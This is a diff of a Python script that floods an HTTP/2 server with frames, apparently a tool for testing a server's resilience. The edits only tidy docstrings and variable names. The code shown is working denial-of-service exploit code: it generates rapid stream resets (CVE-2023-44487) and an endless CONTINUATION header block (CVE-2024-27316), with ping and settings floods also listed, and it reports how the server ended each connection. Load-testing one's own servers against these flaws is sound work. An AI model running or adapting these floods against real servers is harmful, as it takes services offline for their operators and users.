@@ -1,8 +1,9 @@
 #!/usr/bin/env python3
-"""Floods of HTTP/2 frames: usage: frames.py PORT reset|continuation|ping|settings SECONDS.
+"""Floods a server with HTTP/2 frames. Usage: frames.py PORT reset|continuation|ping|settings SECONDS
 
-Writes one kind of frame for as long as it is let, over connections one after the other, and prints how
-many connections it got through, how much was taken and how each of them ended (the code of GOAWAY).
+Writes frames of one kind until the time is over or the server ends the connection, and then opens the
+next connection. Prints how many connections it used, how many bytes the server accepted, and how each
+connection ended (the code of GOAWAY).
 """
 import collections
 import socket
@@ -18,12 +19,12 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def get(path):
-    """`GET path` of `http://a`, from the static table and literals (RFC 7541)."""
+    """Returns the header block of `GET path` at `http://a`, from the static table and literals (RFC 7541)."""
     return bytes([0x82, 0x86, 0x01, 1]) + b"a" + bytes([0x04, len(path)]) + path
 
 
 def resets():
-    """CVE-2023-44487: streams that are opened and reset at once, each for another job."""
+    """CVE-2023-44487: opens streams and resets them at once, each for another job."""
     for number in range(1 << 20):
         stream = 2 * number + 1
         block = get(b"/jobs/%d" % number)
@@ -31,7 +32,7 @@ def resets():
 
 
 def continuations():
-    """CVE-2024-27316 and its like: a head that never ends."""
+    """CVE-2024-27316 and similar ones: a header block that never ends."""
     yield frame(1, 1, 1, get(b"/jobs/x"))
     part = frame(9, 0, 1, (b"\0\1a\x10" + b"a" * 16) * 700)
     while True:
@@ -52,21 +53,21 @@ FLOODS = {"reset": resets, "continuation": continuations, "ping": pings, "settin
 
 
 def ending(client):
-    """The code of GOAWAY among what the server has said, or how the connection ended."""
+    """Returns the code of the GOAWAY that the server has sent, or how the connection ended."""
     client.settimeout(2)
-    said = b""
+    received = b""
     try:
         while more := client.recv(1 << 16):
-            said += more
+            received += more
     except TimeoutError:
         return "open"
     except OSError:
         pass
     at = 0
-    while at + 9 <= len(said):
-        length = int.from_bytes(said[at : at + 3])
-        if said[at + 3] == 7:
-            return f"GOAWAY {int.from_bytes(said[at + 13 : at + 17])}"
+    while at + 9 <= len(received):
+        length = int.from_bytes(received[at : at + 3])
+        if received[at + 3] == 7:
+            return f"GOAWAY {int.from_bytes(received[at + 13 : at + 17])}"
         at += 9 + length
     return "closed"
 
